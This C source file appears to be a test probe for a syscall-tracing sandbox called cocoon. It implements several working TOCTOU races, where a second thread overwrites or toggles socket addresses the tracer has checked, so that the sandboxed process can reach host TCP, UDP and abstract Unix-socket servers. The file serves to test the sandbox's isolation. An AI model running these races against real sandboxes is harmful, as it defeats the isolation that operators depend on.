// Route: the address cocoon hands the kernel, changed by a sibling thread.
// A tracer that rewrites an address writes its own copy where the guest
// can write too (below the stopped thread's stack), and the kernel reads
// it only once the thread runs again: a second thread writing the host's
// address over every place such a copy could be, all the time, wins that
// race. Thread A connects (TCP) and sends datagrams (UDP) to 127.0.0.1 in
// a loop with raw syscalls (no function call: nothing of A's own lives
// below its stack pointer, which B overwrites); thread B writes
// sockaddr_in 127.0.0.1:PORT over the 2 KiB below A's stack pointer.
// Natively there is nothing to race: the first call reaches the host's
// servers. x86-64 only (the raw syscall and the red zone).
// The third route races an abstract AF_UNIX name: A connects to G, whose
// translated name has the length of the host's H, and B writes H exactly
// where a tracer's copy of it would be (below the red zone, 16-aligned):
// what stops that is the kernel's, Landlock's scope of abstract sockets
// (natively, A connects to H itself: the control).
// Two more race the guest's own memory, which a tracer reads before the
// kernel does: B turns a sendmsg header's name on and off (NULL and the
// host's address), and a sendto buffer's family from AF_UNIX to AF_INET
// and back, while A sends datagrams with them.
// Usage: race TCP_PORT UDP_PORT ABSTRACT_NAME ROUNDS [native]
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <stddef.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>

#include "probe.h"

static struct sockaddr_in target;  // what B writes: the host's address
static _Atomic(char*) below;       // A's stack pointer, as B aims at it
static atomic_int stop;
// The abstract route: B's one copy of the host's name, and its length.
static struct sockaddr_un host_name;
static socklen_t host_len;  // 0: the IP routes
// The toggling routes: the header and buffer B changes, and which.
static struct msghdr toggled_msg;
static struct sockaddr_in toggled_addr;
static atomic_int toggling;  // 1: the header's name, 2: the buffer's family
// The prefix an emulated network namespace puts before its names
// (ccRRSSTT/): what an attacker reading cocoon's source knows.
enum { kPrefix = 9 };

static void* overwrite(void* arg) {
  (void)arg;
  while (!atomic_load(&stop)) {
    const int t = atomic_load(&toggling);
    // Each state held for a while: two stores in a row would make the
    // first all but invisible to the other CPU.
    if (t == 1) {
      *(void* volatile*)&toggled_msg.msg_name = NULL;
      for (volatile int k = 0; k < 200; k++) {}
      *(void* volatile*)&toggled_msg.msg_name = &target;
      for (volatile int k = 0; k < 200; k++) {}
      continue;
    }
    if (t == 2) {
      *(volatile sa_family_t*)&toggled_addr.sin_family = AF_UNIX;
      for (volatile int k = 0; k < 200; k++) {}
      *(volatile sa_family_t*)&toggled_addr.sin_family = AF_INET;
      for (volatile int k = 0; k < 200; k++) {}
      continue;
    }
    char* sp = atomic_load(&below);
    if (sp == NULL) continue;
    // Where a tracer's copy would be: below the red zone, 16-aligned.
    if (host_len != 0) {
      char* top = (char*)((unsigned long)(sp - 128) & ~15ul);
      memcpy(top - ((host_len + 15) & ~15u), &host_name, host_len);
      continue;
    }
    char* p = (char*)((unsigned long)(sp - 2048) & ~15ul);
    for (; p + sizeof target <= sp - 128; p += 16) memcpy(p, &target, sizeof target);
  }
  return NULL;
}

// A system call without a function call (x86-64): nothing of A's lives
// below its stack pointer, which B overwrites (built with -mno-red-zone).
static inline __attribute__((always_inline)) long raw(long nr, long a, long b, long c, long d,
                                                      long e, long f) {
  long r;
  register long r10 __asm__("r10") = d;
  register long r8 __asm__("r8") = e;
  register long r9 __asm__("r9") = f;
  __asm__ volatile("syscall"
                   : "=a"(r)
                   : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                   : "rcx", "r11", "memory");
  return r;
}

// A's loop: `rounds` tries, each a new socket; the first that reaches the
// host ends it.
static __attribute__((noinline)) int attempt(int type, int port, long rounds, int* out,
                                             const struct sockaddr_un* un, socklen_t un_len) {
  struct sockaddr_in a;
  memset(&a, 0, sizeof a);
  a.sin_family = AF_INET;
  a.sin_port = htons((unsigned short)port);
  inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
  struct pollfd p = {-1, POLLIN, 0};
  char* sp;
  __asm__ volatile("mov %%rsp, %0" : "=r"(sp));
  atomic_store(&below, sp);
  if (un != NULL) {
    for (long i = 0; i < rounds; i++) {
      const int fd = (int)raw(SYS_socket, AF_UNIX, SOCK_STREAM, 0, 0, 0, 0);
      if (raw(SYS_connect, fd, (long)un, un_len, 0, 0, 0) == 0) {
        *out = fd;
        return 1;
      }
      raw(SYS_close, fd, 0, 0, 0, 0, 0);
    }
    return 0;
  }
  const int t = atomic_load(&toggling);
  if (t != 0) {  // one socket, the guest's own header or buffer raced
    const int fd = (int)raw(SYS_socket, AF_INET, SOCK_DGRAM, 0, 0, 0, 0);
    struct iovec iov = {"race", 4};
    toggled_msg.msg_name = &target;
    toggled_msg.msg_namelen = sizeof target;
    toggled_msg.msg_iov = &iov;
    toggled_msg.msg_iovlen = 1;
    toggled_addr = target;
    for (long i = 0; i < rounds; i++) {
      if (t == 1) {
        raw(SYS_sendmsg, fd, (long)&toggled_msg, 0, 0, 0, 0);
      } else {
        raw(SYS_sendto, fd, (long)"race", 4, 0, (long)&toggled_addr, sizeof toggled_addr);
      }
    }
    p.fd = fd;
    *out = fd;
    return raw(SYS_poll, (long)&p, 1, 3000, 0, 0, 0) == 1;
  }
  if (type == SOCK_DGRAM) {  // one socket, its datagrams raced, then any answer
    const int fd = (int)raw(SYS_socket, AF_INET, type, 0, 0, 0, 0);
    for (long i = 0; i < rounds; i++) raw(SYS_sendto, fd, (long)"race", 4, 0, (long)&a, sizeof a);
    p.fd = fd;
    *out = fd;
    return raw(SYS_poll, (long)&p, 1, 3000, 0, 0, 0) == 1;
  }
  for (long i = 0; i < rounds; i++) {
    const int fd = (int)raw(SYS_socket, AF_INET, type, 0, 0, 0, 0);
    if (raw(SYS_connect, fd, (long)&a, sizeof a, 0, 0, 0) == 0) {
      *out = fd;
      return 1;
    }
    raw(SYS_close, fd, 0, 0, 0, 0, 0);
  }
  return 0;
}

static void run(const char* name, int type, int port, long rounds, const struct sockaddr_un* un,
                socklen_t un_len) {
  target.sin_family = AF_INET;
  target.sin_port = htons((unsigned short)port);
  if (un == NULL) host_len = 0;
  inet_pton(AF_INET, "127.0.0.1", &target.sin_addr);
  atomic_store(&stop, 0);
  atomic_store(&below, NULL);
  pthread_t b;
  pthread_create(&b, NULL, overwrite, NULL);
  int fd = -1;
  const int won = attempt(type, port, rounds, &fd, un, un_len);
  atomic_store(&stop, 1);
  pthread_join(b, NULL);
  char buf[256];
  ssize_t n = won ? recv(fd, buf, sizeof buf - 1, 0) : -1;
  if (n > 0) {
    buf[n] = 0;
    say("%s read: %s\n", name, buf);
  }
  route(name, n > 0, won ? errno : ECONNREFUSED);
}

static socklen_t abstract_name(struct sockaddr_un* a, const char* name, size_t len) {
  memset(a, 0, sizeof *a);
  a->sun_family = AF_UNIX;
  memcpy(a->sun_path + 1, name, len);
  return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + len);
}

int main(int argc, char** argv) {
  if (argc != 5 && argc != 6) {
    say("usage: race TCP_PORT UDP_PORT ABSTRACT_NAME ROUNDS [native]\n");
    return 2;
  }
  const long rounds = atol(argv[4]);
  run("race_connect", SOCK_STREAM, atoi(argv[1]), rounds, NULL, 0);
  run("race_sendto", SOCK_DGRAM, atoi(argv[2]), rounds, NULL, 0);
  atomic_store(&toggling, 1);
  run("race_msg_name", SOCK_DGRAM, atoi(argv[2]), rounds, NULL, 0);
  atomic_store(&toggling, 2);
  run("race_family", SOCK_DGRAM, atoi(argv[2]), rounds, NULL, 0);
  atomic_store(&toggling, 0);
  const size_t n = strlen(argv[3]);
  if (n <= kPrefix) return 0;
  struct sockaddr_un g;
  char guest[108];
  memset(guest, 'g', sizeof guest);
  host_len = abstract_name(&host_name, argv[3], n);
  const socklen_t g_len = argc == 6 ? abstract_name(&g, argv[3], n) : abstract_name(&g, guest, n - kPrefix);
  run("race_abstract", SOCK_STREAM, 0, rounds, &g, g_len);
  return 0;
}
